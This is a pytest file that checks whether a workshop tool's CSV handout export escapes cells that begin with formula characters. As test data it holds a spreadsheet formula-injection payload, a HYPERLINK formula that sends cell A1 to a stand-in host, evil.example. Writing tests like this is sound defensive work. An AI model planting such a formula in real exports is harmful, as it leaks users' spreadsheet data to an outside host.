"""CSV handouts cannot carry a live formula (second round of faults): every cell of every
column that begins with = + - @, a tab or a carriage return has a single quote put before it,
the quote from the document included; everything else is written as it is."""
from __future__ import annotations

import csv
import io

from ingest.steps import read_passages
from workshop.basket import Basket, BasketItem
from workshop.handout import CSV_COLUMNS, export
from workshop.verify import Verifier

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
DOCUMENT = (
    "Formulas in the margin\n\n"
    f"{FORMULA} is what the attacker wrote into the essay, hoping someone exports it.\n"
    "-2+3 was written in the next sentence as well, and @SUM(A1:A9) after it.\n"
)


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def basket_of(corpus, settings, quote_start_text: str, note: str) -> tuple[Basket, BasketItem]:
    """A basket of the quote from `quote_start_text` to the end of its line."""
    passages = read_passages(corpus / "margin.txt", "margin.txt", settings)[0]
    p = next(p for p in passages if quote_start_text in p.text)
    start = p.start + p.text.index(quote_start_text)
    end = p.start + p.text.index("\n", p.text.index(quote_start_text))
    item = BasketItem.from_passage(p, start, end, note)
    return Basket([item]), item


def test_no_cell_of_a_csv_handout_is_a_formula(tmp_path, settings):
    corpus = tmp_path / "docs"
    corpus.mkdir()
    (corpus / "margin.txt").write_text(DOCUMENT, encoding="utf-8")
    (corpus / "catalog.toml").write_text('["margin.txt"]\ntitle = "+Title"\nauthor = "@Author"\n',
                                         encoding="utf-8")
    basket, item = basket_of(corpus, settings, FORMULA, "\tnote: starts with a tab")
    assert item.quote.startswith(FORMULA)
    table = rows(export(basket, "csv", Verifier(corpus), "plain", "=Workshop", "-1 May"))
    assert table[0] == list(CSV_COLUMNS)
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    row = dict(zip(table[0], table[1]))
    assert row["quote"] == "'" + item.quote  # the quote, inert, and otherwise as written
    assert row["handout"] == "'=Workshop" and row["date"] == "'-1 May"
    assert row["note"] == "'\tnote: starts with a tab"
    assert row["title"] == "'+Title" and row["author"] == "'@Author"
    assert row["source"] == "margin.txt" and row["verified"] == "yes"


def test_other_text_is_kept_as_it_is(tmp_path, settings):
    corpus = tmp_path / "docs"
    corpus.mkdir()
    (corpus / "margin.txt").write_text(DOCUMENT, encoding="utf-8")
    basket, item = basket_of(corpus, settings, "is what the attacker", "a note = fine; 'quoted'")
    row = dict(zip(*rows(export(basket, "csv", Verifier(corpus), "plain", "Workshop", "1 May"))[:2]))
    assert row["quote"] == item.quote and row["note"] == "a note = fine; 'quoted'"
    assert row["handout"] == "Workshop" and row["date"] == "1 May"
